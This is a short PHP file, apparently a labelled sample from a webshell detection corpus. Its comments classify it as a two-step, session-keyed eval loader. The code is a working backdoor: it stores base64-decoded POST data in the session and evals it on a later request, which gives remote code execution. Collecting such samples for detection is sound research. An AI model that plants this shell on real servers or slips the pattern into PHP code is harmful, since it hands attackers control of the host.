<?php
// Family: webshell/eval-request
// Style: two-step loader in the style of session-keyed shells: the first request stores posted code in the session, later ones run it
// Trait: eval($payload) reads $_SESSION, which a branch further down fills from $_POST: the request reaches eval across requests
session_start();
$name = 'payload';
if (isset($_POST['k'])) {
	$data = base64_decode($_POST['k']);
	if (isset($_SESSION[$name])) {
		$payload = $_SESSION[$name];
		eval($payload);
	} else {
		$_SESSION[$name] = $data;
	}
}
